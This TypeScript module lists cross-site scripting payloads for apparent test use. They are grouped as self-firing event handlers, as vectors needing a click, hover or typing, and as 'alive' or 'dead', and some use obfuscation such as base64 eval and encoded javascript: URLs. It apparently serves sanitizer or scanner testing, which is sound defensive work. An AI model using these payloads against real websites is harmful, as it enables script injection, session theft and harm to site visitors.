import type { Code } from './code.ts';
import { alive, dead, type Vector } from './vector.ts';

/** Handlers of events that fire by themselves. */
export const handlers = ({ attr, bare, base64 }: Code): Vector[] => [
  ...alive([
    `<img src=x onerror="${attr}">`,
    `<IMG/SRC="x"/ONERROR=${bare}>`,
    `<img src=x title="${base64}" onerror=eval(atob(title))>`,
    `<svg/onload=${bare}>`,
    `<svg><animate onbegin=${bare} attributeName=x dur=1s>`,
    `<details open ontoggle=${bare}><summary>x</summary></details>`,
    `<b contenteditable autofocus onfocus=${bare}>x</b>`,
    `<video><source src=x onerror=${bare}></video>`,
    `<body onload=${bare}>`,
    `<style onload=${bare}>b{}</style>`,
    `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${bare}>x</b>`,
  ]),
  ...dead([`<b onload=${bare}>x</b>`, `<img src=x onerror="// ${attr}">`]),
];

/** Handlers and URLs that need a visitor's action. */
export const acted = ({ attr, bare }: Code): Vector[] => [
  { act: 'click', html: `<a id=p href="&#14; &#106;ava&Tab;script&colon;${attr}">x</a>` },
  {
    act: 'click',
    html: `<svg><a><animate attributeName=href values="javascript:${attr}"/><text id=p y=20>x</text></a></svg>`,
  },
  { act: 'click', html: `<form><button id=p formaction="javascript:${attr}">x</button></form>` },
  { act: 'hover', html: `<b id=p onpointerover=${bare}>x</b>` },
  { act: 'type', html: `<b id=p contenteditable onbeforeinput=${bare}>x</b>` },
];
